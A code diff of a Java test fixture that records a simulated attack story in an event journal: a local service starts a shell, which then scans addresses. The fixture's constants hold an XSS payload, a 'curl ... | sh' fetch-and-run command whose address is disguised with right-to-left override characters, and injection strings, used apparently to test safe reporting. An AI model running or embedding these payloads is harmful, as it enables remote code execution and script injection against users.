@@ -1,4 +1,4 @@
-package dev.rubato.cli;
+package dev.rubato.lab;
 
 import dev.rubato.event.Address;
 import dev.rubato.event.Event;
@@ -18,11 +18,12 @@ import org.jspecify.annotations.Nullable;
  * A page in a browser makes a local service start a shell, whose name and arguments would break out of a careless
  * report; the shell then tries one address after the other.
  */
-final class HostileStory {
-    static final String MARKUP = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>";
-    static final String TURNED = "curl \u202ehs.x/9.311.0.302//:ptth\u202c | sh";
-    static final String QUOTES = "\"'`${1+1}{{data}}%s\u0000\u001b[31m";
-    static final int SCANNED = 60;
+public final class HostileStory {
+    public static final String MARKUP =
+            "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>";
+    public static final String TURNED = "curl \u202ehs.x/9.311.0.302//:ptth\u202c | sh";
+    public static final String QUOTES = "\"'`${1+1}{{data}}%s\u0000\u001b[31m";
+    public static final int SCANNED = 60;
 
     private static final long START_NS = 1_780_000_000_000_000_000L;
     private static final long MS = 1_000_000L;
@@ -38,7 +39,7 @@ final class HostileStory {
     private HostileStory() {}
 
     /** Writes the story into a journal below {@code directory} and gives the journal's place. */
-    static Path journal(Path directory) {
+    public static Path journal(Path directory) {
         Path place = directory.resolve("journal");
         try (Journal<Event> journal = Journal.open(
                 place.resolve("events"), new EventCodec(), JournalLimits.of(Long.MAX_VALUE, Duration.ofDays(36_500)))) {
@@ -78,7 +79,16 @@ final class HostileStory {
         connect(network, LOCAL, SERVICE, Event.Outcome.ESTABLISHED);
         nowNs += 12 * MS;
         ProcessKey shell = start(
-                server, 101, 34_816, ProcessImage.Stdin.PIPE, "/bin/sh", "-c", TURNED, MARKUP, QUOTES, "x".repeat(3000));
+                server,
+                101,
+                34_816,
+                ProcessImage.Stdin.PIPE,
+                "/bin/sh",
+                "-c",
+                TURNED,
+                MARKUP,
+                QUOTES,
+                "x".repeat(3000));
         for (int i = 1; i <= SCANNED; i++) {
             nowNs += 300 * MS;
             if (i % 5 == 0) {
@@ -115,8 +125,7 @@ final class HostileStory {
         Address from = to.isLoopback() ? to : Address.parse("10.0.0.5");
         Flow opening = new Flow(Flow.Protocol.TCP, Address.ANY, 0, to, port);
         Flow open = new Flow(Flow.Protocol.TCP, from, nextPort++, to, port);
-        add(new Event.ConnectionOpened(
-                nowNs, socket, opening, Flow.Direction.OUTBOUND, client, Event.Basis.EXACT));
+        add(new Event.ConnectionOpened(nowNs, socket, opening, Flow.Direction.OUTBOUND, client, Event.Basis.EXACT));
         add(new Event.ConnectionResolved(nowNs, socket, open, outcome, Event.Basis.EXACT));
     }
 }
